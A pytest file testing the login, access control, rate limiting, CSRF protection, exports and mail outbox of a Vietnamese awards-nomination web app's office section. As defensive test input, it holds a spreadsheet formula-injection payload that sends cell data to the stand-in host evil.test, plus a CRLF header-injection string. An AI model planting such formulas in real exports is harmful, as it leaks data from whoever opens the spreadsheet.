"""The office view: login, bodies, dossiers, exports and the outbox, through HTTP."""

from __future__ import annotations

import re

import pytest
from mail_fixtures import (  # noqa: F401  (smtp_server is a fixture)
    OTHER_CALL,
    OTHER_PLAN,
    all_mails,
    run_pass,
    smtp_server,
    submit_with_mails,
)
from sqlalchemy import select

from forms_app.office.cli import create_user_command
from forms_app.store.database import get_session
from forms_app.store.models import Dossier, MailState, OfficeUser, OutboxMail

PASSWORD = "mật-khẩu-đủ-dài-2020"
CAMPAIGN = "/van-phong/dot/ldld-quan-1-hoi-nghi-dien-hinh-tien-tien-2020/cap-thanh-pho/"
OTHER_CAMPAIGN = f"/van-phong/dot/{OTHER_PLAN}/{OTHER_CALL}/"
HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"Bấm vào đây")'


def csrf_token(html: str) -> str:
    return re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', html).group(1)


def create_user(app, username: str, *issuers: str, password: str = PASSWORD):
    args = [username, "--name", "Hoàng Thị Hà", "--password", password]
    for issuer in issuers:
        args += ["--issuer", issuer]
    return app.test_cli_runner().invoke(create_user_command, args)


def login(client, username: str, password: str = PASSWORD):
    page = client.get("/van-phong/dang-nhap")
    return client.post(
        "/van-phong/dang-nhap",
        data={
            "username": username,
            "password": password,
            "csrf_token": csrf_token(page.text),
        },
    )


@pytest.fixture
def office_app(make_app):
    app = make_app(MAIL_BACKEND="file", OUTBOX_SEND_AFTER_COMMIT=False)
    assert create_user(app, "quan1", "ldld-quan-1").exit_code == 0
    assert create_user(app, "longbien", "ldld-long-bien").exit_code == 0
    submit_with_mails(app, "Q1AAAA22", "Nguyễn Thị Lan")
    submit_with_mails(
        app,
        "Q1BBBB33",
        HYPERLINK,
        union="Công đoàn cơ sở Bệnh viện Quận 1",
        category="doi-tuong-2",
    )
    submit_with_mails(
        app, "LBCCCC44", "Trần Văn Long", plan=OTHER_PLAN, call=OTHER_CALL, category="ca-nhan"
    )
    return app


@pytest.fixture
def quan1(office_app):
    client = office_app.test_client()
    assert login(client, "quan1").status_code == 302
    return client


def test_office_create_user_stores_only_a_password_hash(office_app):
    with office_app.app_context():
        user = get_session().scalar(select(OfficeUser).where(OfficeUser.username == "quan1"))
        assert user.issuer_keys == frozenset({"ldld-quan-1"})
        assert user.password_hash.startswith("scrypt:")
        assert PASSWORD not in user.password_hash


def test_office_create_user_rejects_unknown_body_and_short_password(office_app):
    unknown = create_user(office_app, "ai-do", "ldld-khong-co")
    short = create_user(office_app, "ai-do", "ldld-quan-1", password="ngan")
    twice = create_user(office_app, "quan1", "ldld-quan-1")

    assert unknown.exit_code == 1
    assert unknown.output == (
        "Error: Không có cơ quan ldld-khong-co trong content/issuers.yml; các mã hợp lệ: "
        "hdtdkt-long-bien, ldld-ba-dinh, ldld-lai-chau, ldld-long-bien, ldld-quan-1.\n"
    )
    assert short.output == "Error: Mật khẩu cần ít nhất 10 ký tự.\n"
    assert twice.output == "Error: Tài khoản quan1 đã có.\n"


def test_office_pages_need_a_login(office_app):
    client = office_app.test_client()

    for path in (
        "/van-phong/",
        CAMPAIGN,
        "/van-phong/ho-so/Q1AAAA22",
        "/van-phong/ho-so-don-vi/DBM23456",
        "/van-phong/ho-so-don-vi/DBM23456/lan-1.zip",
        "/van-phong/thu-gui",
    ):
        response = client.get(path)
        assert response.status_code == 302
        assert response.location.startswith("/van-phong/dang-nhap?next=")
    for path in (f"{CAMPAIGN}dinh-muc", f"{CAMPAIGN}dinh-muc/1/bo"):
        assert client.post(path, data={"max_nominees": "3"}).status_code == 302


def test_office_login_wrong_password_is_refused(office_app):
    client = office_app.test_client()

    response = login(client, "quan1", "sai-mat-khau-roi")

    assert response.status_code == 401
    assert "Tên đăng nhập hoặc mật khẩu không đúng." in response.text
    assert client.get("/van-phong/").status_code == 302


def test_office_login_is_rate_limited_per_address(make_app):
    app = make_app(MAIL_BACKEND="file", OFFICE_LOGIN_LIMIT=3, OFFICE_LOGIN_WINDOW=600)
    create_user(app, "quan1", "ldld-quan-1")
    client = app.test_client()

    wrong = [login(client, "quan1", f"sai-mat-khau-{i}").status_code for i in range(3)]
    blocked = login(client, "quan1")

    assert wrong == [401, 401, 401]
    assert blocked.status_code == 429
    assert "Đăng nhập sai quá nhiều lần từ địa chỉ này. Hãy thử lại sau 10 phút." in blocked.text
    assert client.get("/van-phong/").status_code == 302


def test_office_login_success_on_another_account_does_not_reset_failures(make_app):
    # The attack of issue 9: 9 guesses at one account, 1 real login to the attacker's
    # own account, again and again. The address's failures must keep counting.
    app = make_app(MAIL_BACKEND="file")
    create_user(app, "quan1", "ldld-quan-1")
    create_user(app, "longbien", "ldld-long-bien")
    client = app.test_client()

    statuses = []
    for round_ in range(4):
        statuses += [login(client, "quan1", f"doan-mo-{round_}-{i}").status_code for i in range(9)]
        statuses.append(login(client, "longbien").status_code)

    assert statuses == [401] * 9 + [302] + [401] + [429] * 29
    refused = login(client, "longbien")
    assert "Đăng nhập sai quá nhiều lần từ địa chỉ này. Hãy thử lại sau 15 phút." in refused.text


def test_office_login_failures_counted_per_account_across_addresses(make_app):
    app = make_app(MAIL_BACKEND="file", OFFICE_LOGIN_LIMIT=3)
    create_user(app, "quan1", "ldld-quan-1")
    create_user(app, "longbien", "ldld-long-bien")

    def login_from(address: str, username: str, password: str = PASSWORD):
        client = app.test_client()
        client.environ_base["REMOTE_ADDR"] = address
        return login(client, username, password)

    wrong = [login_from(f"203.0.113.{i}", "quan1", "sai-mat-khau").status_code for i in range(3)]
    blocked = login_from("203.0.113.50", "quan1")
    other_account = login_from("203.0.113.50", "longbien")

    assert wrong == [401, 401, 401]
    assert blocked.status_code == 429
    assert (
        "Tài khoản này bị nhập sai mật khẩu quá nhiều lần. Hãy thử lại sau 15 phút." in blocked.text
    )
    assert other_account.status_code == 302


def test_office_login_success_forgets_only_that_accounts_failures(make_app):
    app = make_app(MAIL_BACKEND="file", OFFICE_LOGIN_LIMIT=3)
    create_user(app, "quan1", "ldld-quan-1")

    def login_from(address: str, password: str = PASSWORD):
        client = app.test_client()
        client.environ_base["REMOTE_ADDR"] = address
        return login(client, "quan1", password)

    statuses = [login_from(f"198.51.100.{i}", "sai-mat-khau").status_code for i in range(2)]
    statuses.append(login_from("198.51.100.9").status_code)
    statuses += [login_from(f"198.51.100.{i}", "sai-mat-khau").status_code for i in (20, 21)]
    statuses.append(login_from("198.51.100.9").status_code)

    assert statuses == [401, 401, 302, 401, 401, 302]


def test_office_logout_revokes_a_copied_cookie(office_app):
    client = office_app.test_client()
    login(client, "quan1")
    copied = client.get_cookie("session").value
    thief = office_app.test_client()
    thief.set_cookie("session", copied)
    assert thief.get("/van-phong/").status_code == 200

    page = client.get("/van-phong/")
    client.post("/van-phong/dang-xuat", data={"csrf_token": csrf_token(page.text)})

    after = thief.get("/van-phong/")
    assert after.status_code == 302
    assert after.location == "/van-phong/dang-nhap?next=/van-phong/?"
    assert client.get("/van-phong/").status_code == 302


def test_office_login_ends_after_its_lifetime(office_app):
    from forms_app.store.models import OfficeSession

    client = office_app.test_client()
    login(client, "quan1")
    assert client.get("/van-phong/").status_code == 200
    with office_app.extensions["forms_sessionmaker"]() as db:
        row = db.scalar(select(OfficeSession))
        assert (row.expires_at - row.created_at).total_seconds() == 8 * 3600
        row.expires_at = _hours_later(-1)
        db.commit()

    assert client.get("/van-phong/").status_code == 302


def test_office_cookie_holds_only_a_random_login_token(office_app):
    client = office_app.test_client()
    login(client, "quan1")

    with client.session_transaction() as session:
        assert set(session) == {"office_login"}
        assert re.fullmatch(r"[A-Za-z0-9_-]{43}", session["office_login"])


def test_office_login_messages_are_vietnamese(office_app):
    client = office_app.test_client()
    page = client.get("/van-phong/dang-nhap")

    response = client.post(
        "/van-phong/dang-nhap",
        data={"username": "q" * 101, "password": "", "csrf_token": csrf_token(page.text)},
    )

    assert response.status_code == 400
    assert re.findall(r'<span class="error">(.*?)</span>', response.text) == [
        "Tên đăng nhập tối đa 100 ký tự.",
        "Hãy nhập mật khẩu.",
    ]


def test_office_login_without_csrf_token_is_refused(office_app):
    client = office_app.test_client()

    response = client.post("/van-phong/dang-nhap", data={"username": "quan1", "password": PASSWORD})

    assert response.status_code == 400
    assert client.get("/van-phong/").status_code == 302


def test_office_account_lists_only_its_bodies_campaigns(quan1):
    page = quan1.get("/van-phong/").text

    assert "Liên đoàn Lao động quận 1" in page
    assert "ĐỐI TƯỢNG VÀ TIÊU CHÍ KHEN CẤP THÀNH PHỐ" in page
    assert "Long Biên" not in page


@pytest.mark.parametrize(
    "path",
    [
        OTHER_CAMPAIGN,
        f"{OTHER_CAMPAIGN}danh-sach.xlsx",
        f"{OTHER_CAMPAIGN}danh-sach.csv",
        f"{OTHER_CAMPAIGN}ho-so.zip",
        "/van-phong/ho-so/LBCCCC44",
        "/van-phong/ho-so/lbcccc44",
        "/van-phong/ho-so/LBCCCC44/ban-1/pdf",
        "/van-phong/ho-so/LBCCCC44/ban-1/docx",
        "/van-phong/ho-so/LBCCCC44/ban-1/anh",
        "/van-phong/ho-so/KHONGCO9/ban-1/pdf",
        "/van-phong/ho-so/Q1AAAA22/ban-2/pdf",
        "/van-phong/ho-so/Q1AAAA22/ban-1/exe",
        "/van-phong/dot/khong-co/cap-thanh-pho/",
    ],
)
def test_office_other_bodies_dossiers_answer_404(quan1, path):
    assert quan1.get(path).status_code == 404


def test_office_other_bodies_mail_cannot_be_resent(office_app, quan1):
    with office_app.app_context():
        # The other body's dossier (the fixture names it after its one nominee).
        dossier = select(Dossier.id).where(Dossier.reference == "LBCCCC44").scalar_subquery()
        ids = list(
            get_session().scalars(select(OutboxMail.id).where(OutboxMail.dossier_id == dossier))
        )
    token = csrf_token(quan1.get("/van-phong/thu-gui").text)

    statuses = [
        quan1.post(f"/van-phong/thu-gui/{i}/gui-lai", data={"csrf_token": token}).status_code
        for i in ids
    ]

    assert len(ids) == 2
    assert statuses == [404, 404]
    assert "LBCCCC44" not in quan1.get("/van-phong/thu-gui").text


def test_office_downloads_own_files(quan1):
    pdf = quan1.get("/van-phong/ho-so/Q1AAAA22/ban-1/pdf")
    docx = quan1.get("/van-phong/ho-so/Q1AAAA22/ban-1/docx")

    assert pdf.status_code == 200
    assert pdf.data.startswith(b"%PDF-")
    assert pdf.headers["Content-Disposition"] == (
        "attachment; filename=Tom-tat-thanh-tich-Nguyen-Thi-Lan-Q1AAAA22-ban-1.pdf"
    )
    assert pdf.headers["Cache-Control"] == "no-store"
    assert docx.data.startswith(b"PK")


DATE_ERRORS = {
    "den_ngay=9999-12-31": (
        "Ô “Đến ngày” cần một ngày từ 01/01/1900 đến 31/12/2999; nhận được “9999-12-31”."
    ),
    "tu_ngay=0001-01-01": (
        "Ô “Từ ngày” cần một ngày từ 01/01/1900 đến 31/12/2999; nhận được “0001-01-01”."
    ),
    "tu_ngay=2020-02-30": (
        "Ô “Từ ngày” cần một ngày dạng năm-tháng-ngày, ví dụ 2020-02-10; nhận được “2020-02-30”."
    ),
    "den_ngay=hôm+nay": (
        "Ô “Đến ngày” cần một ngày dạng năm-tháng-ngày, ví dụ 2020-02-10; nhận được “hôm nay”."
    ),
}


@pytest.mark.parametrize("query", DATE_ERRORS)
@pytest.mark.parametrize("page", ["", "danh-sach.csv", "danh-sach.xlsx", "ho-so.zip"])
def test_office_out_of_range_dates_answer_400_in_vietnamese(quan1, page, query):
    response = quan1.get(f"{CAMPAIGN}{page}?{query}")

    assert response.status_code == 400
    assert response.mimetype == "text/html"
    assert re.findall(r'<p class="error" role="alert">(.*?)</p>', response.text) == [
        DATE_ERRORS[query]
    ]


def test_office_odd_parameters_never_answer_500(quan1, office_app):
    mail_id = all_mails(office_app)[0].id
    page = quan1.get("/van-phong/thu-gui")
    token = csrf_token(page.text)

    answers = {
        "NUL in a filter": quan1.get(CAMPAIGN, query_string={"cdcs": "a\x00b"}).status_code,
        "NUL in a status": quan1.get("/van-phong/thu-gui?trang_thai=%00").status_code,
        "NUL in a reference": quan1.get("/van-phong/ho-so/Q1%00").status_code,
        "huge mail id": quan1.post(
            "/van-phong/thu-gui/99999999999999999999999/gui-lai", data={"csrf_token": token}
        ).status_code,
        "huge version": quan1.get(
            "/van-phong/ho-so/Q1AAAA22/ban-99999999999999999999/pdf"
        ).status_code,
        "odd back": quan1.post(
            f"/van-phong/thu-gui/{mail_id}/gui-lai",
            data={"csrf_token": token, "back": "/van-phong/\x00\r\nX: y"},
        ).status_code,
    }

    assert answers == {
        "NUL in a filter": 200,
        "NUL in a status": 200,
        "NUL in a reference": 404,
        "huge mail id": 404,
        "huge version": 404,
        "odd back": 302,
    }


def test_office_outbox_shows_failed_mail_and_resend_delivers(make_app, smtp_server):  # noqa: F811
    app = make_app(**smtp_server.config(), OUTBOX_SEND_AFTER_COMMIT=False)
    create_user(app, "quan1", "ldld-quan-1")
    submit_with_mails(app, "FAIL2345", "Lý Thị Ngọc")
    smtp_server.handler.reply = "550 5.7.1 Từ chối nhận thư"
    for hours in range(3):
        run_pass(app, now=_hours_later(hours))
    assert [m.state for m in all_mails(app)] == [MailState.FAILED] * 2
    client = app.test_client()
    login(client, "quan1")

    page = client.get("/van-phong/thu-gui", query_string={"trang_thai": "failed"}).text
    mail_id = all_mails(app)[0].id
    smtp_server.handler.reply = None
    resent = client.post(
        f"/van-phong/thu-gui/{mail_id}/gui-lai",
        data={"csrf_token": csrf_token(page), "back": "/van-phong/ho-so-don-vi/FAIL2345"},
    )
    report = run_pass(app)

    assert page.count('<td class="state-failed">Gửi thất bại') == 2
    assert page.count("550 5.7.1 Từ chối nhận thư") == 2
    assert resent.status_code == 302
    assert resent.location == "/van-phong/ho-so-don-vi/FAIL2345"
    assert report.sent == 1
    assert [m.state for m in all_mails(app)] == [MailState.SENT, MailState.FAILED]
    assert list(smtp_server.handler.message_ids().values()) == [1]
    detail = client.get("/van-phong/ho-so-don-vi/FAIL2345").text
    assert detail.count('<td class="state-sent">Đã gửi') == 1
    assert detail.count('<td class="state-failed">Gửi thất bại') == 1


def test_office_resend_without_csrf_token_is_refused(make_app):
    app = make_app(MAIL_BACKEND="file", OUTBOX_SEND_AFTER_COMMIT=False)
    create_user(app, "quan1", "ldld-quan-1")
    submit_with_mails(app, "NOCS2345", "Lý Văn Hùng")
    client = app.test_client()
    login(client, "quan1")
    mail_id = all_mails(app)[0].id

    response = client.post(f"/van-phong/thu-gui/{mail_id}/gui-lai")

    assert response.status_code == 400


def _hours_later(hours: int):
    import datetime as dt

    return dt.datetime.now(dt.UTC) + dt.timedelta(hours=hours)
